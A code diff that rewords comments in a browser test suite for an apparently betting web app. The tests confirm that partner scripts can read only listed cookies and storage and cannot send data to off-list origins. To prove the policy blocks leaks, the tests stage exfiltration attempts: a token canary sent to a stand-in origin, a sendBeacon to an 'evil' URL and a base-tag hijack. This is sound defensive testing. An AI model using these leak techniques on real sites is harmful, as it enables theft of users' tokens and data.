@@ -7,7 +7,7 @@ import { storedLogs } from "./visitLog.ts";
 
 test.use({ feed: calm });
 
-test("code of a partner reads what the browser gives to every script, and with that nothing is opened elsewhere", async ({
+test("code of a partner reads what the browser gives to every script, and that opens nothing elsewhere", async ({
   app,
   page,
   origin,
@@ -27,7 +27,7 @@ test("code of a partner reads what the browser gives to every script, and with t
   const ofLog = ["AppStarted", "RouteEntered", "SectionWanted", "touchline-log"];
   for (const word of [...secrets, ...ofLog]) expect(found).not.toContain(word);
 
-  // What it can read: names here, so that a new one is thought about before it is added.
+  // Everything it can read: listed here so that a new name is reviewed before it is added.
   const readable = /^cookie=(.*)$/m.exec(found)?.[1] ?? "";
   const names = (pattern: RegExp) =>
     Array.from(new Set(Array.from(found.matchAll(pattern), ([, name]) => name))).sort();
@@ -37,8 +37,7 @@ test("code of a partner reads what the browser gives to every script, and with t
       .map((one) => one.replace(/=.*/, ""))
       .sort(),
   ).toEqual(["cookies_agree_type", "ggru", "grant", "has_session", "user_token"]);
-  // Whose visits the log holds is a mark that names nobody, and what is counted names nobody either. Both are there some
-  // time after the page is at rest.
+  // The log's visit id and the counters identify nobody. Both appear some time after the page is idle.
   const comeLater = ["tl.logOwner", "tl.metrics"];
   const stored = names(/^(?:local|session)Storage\.(.+?)=/gm);
   expect(stored.filter((name = "") => !comeLater.includes(name))).toEqual([
@@ -54,20 +53,21 @@ test("code of a partner reads what the browser gives to every script, and with t
       .filter((key) => !usual.has(key))
       .map(String);
   });
-  // The operator's own script that tells devices apart comes at some time when the page is at rest.
+  // The operator's own fingerprint script loads at some time when the page is idle.
   const ofOthers = /^(?:__(?:context|calls|playwright)|TouchlineFingerprint$)/;
   expect(globals.filter((name) => !ofOthers.test(name)).sort()).toEqual([
     "TouchlineShell",
     "__reactRouterVersion",
   ]);
 
-  // Code is given the nonce; nobody else finds it.
+  // Code is given the nonce; nothing else finds it.
   const nonce = /^window\.__context\.nonce=(.+)$/m.exec(found)?.[1] ?? "no nonce";
   expect(await page.evaluate(() => new XMLSerializer().serializeToString(document))).not.toContain(
     nonce,
   );
 
-  // The token is where scripts can read it [session-003], but is nothing without the session that they cannot read.
+  // The token is where scripts can read it [session-003], but is useless without the session, which they
+  // cannot read.
   const token = /user_token=([^;\s]+)/.exec(readable)?.[1] ?? "";
   expect(token.split(".")).toHaveLength(3);
   for (const path of ["/web-api/user/balance", "/web-api/bets/history?limit=1"]) {
@@ -77,7 +77,7 @@ test("code of a partner reads what the browser gives to every script, and with t
   }
 });
 
-/** What the player sees, but for clocks, and what the browser keeps. */
+/** What the player sees, except clocks, and what the browser stores. */
 const stateOf = (page: Page) =>
   page.evaluate(() => ({
     path: location.pathname,
@@ -104,7 +104,7 @@ test("nothing in the page reaches an origin off the list, reports of it hide wha
     document.body.append(document.createElement("iframe"));
   });
   await page.evaluate(`(${sayMuch})(window, "canary-of-messages")`);
-  // A frame of another origin cannot be there at all, so this one stands closer than any could.
+  // A frame of another origin cannot exist here, so this one is closer than any could be.
   await page.frames()[1]?.evaluate(`(${sayMuch})(parent, "canary-of-messages")`);
   await expect.poll(() => page.evaluate(() => Reflect.get(window, "heard"))).toBe(2_000);
   expect(await stateOf(page)).toEqual(before);
@@ -118,7 +118,7 @@ test("nothing in the page reaches an origin off the list, reports of it hide wha
   });
   expect(await page.evaluate(waysOut, `${origin.other}/found?token=canary-of-target`)).toEqual([]);
 
-  // These have no way to say what became of them.
+  // These have no way to report their outcome.
   await page.evaluate((evil) => {
     navigator.sendBeacon(evil, "x");
     const base = document.head.appendChild(document.createElement("base"));
@@ -155,7 +155,7 @@ test("nothing in the page reaches an origin off the list, reports of it hide wha
   expect(askedOffTheList(origin)).toEqual([]);
   expect(await page.evaluate(() => document.baseURI)).toContain(app.url);
 
-  // Browsers send them by https only, and a minute later: the page's own are sent here as they would be.
+  // Browsers send them only over https, and a minute later: the page's own are sent here as they would be.
   const body = JSON.stringify(await reports());
   expect(body).toContain("canary-of-target");
   expect(body).toContain("canary-of-page");
